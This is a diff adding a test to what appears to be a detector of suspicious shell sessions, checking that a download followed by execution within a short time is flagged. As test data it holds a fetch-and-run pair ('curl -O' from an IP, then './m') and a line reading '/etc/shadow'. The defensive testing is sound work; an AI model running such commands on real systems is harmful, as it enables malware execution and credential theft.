@@ -94,6 +94,15 @@ def test_lines_of_one_session(judged):
     assert ("downloaded_then_run", [1, 3]) == (finding["rule"], finding["lines"])
 
 
+def test_a_transcript_is_judged_with_its_own_lines_and_times(judged):
+    """The output of `countersign transcript --json` goes in as it is: its line numbers are named, its times count."""
+    lines = [{"line": 4, "text": "curl -O http://192.0.2.10/m", "at": "2026-11-23T10:00:00+00:00"}, {"line": 9, "text": "./m", "at": None}]
+    records, _ = judged("\n".join(map(json.dumps, lines)).encode(), "--session")
+    assert [4, 9] == records[1]["findings"][0]["lines"]
+    late = [lines[0], {"line": 9, "text": "./m", "at": "2026-11-23T20:00:00+00:00"}]
+    assert [] == found(judged("\n".join(map(json.dumps, late)).encode(), "--session")[0][1])
+
+
 def test_standard_input_in_any_bytes(monkeypatch, capsys):
     """Standard input is read as bytes, so that no byte of it is an error."""
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"cat /etc/shadow \xff\xfe\x80\n")))
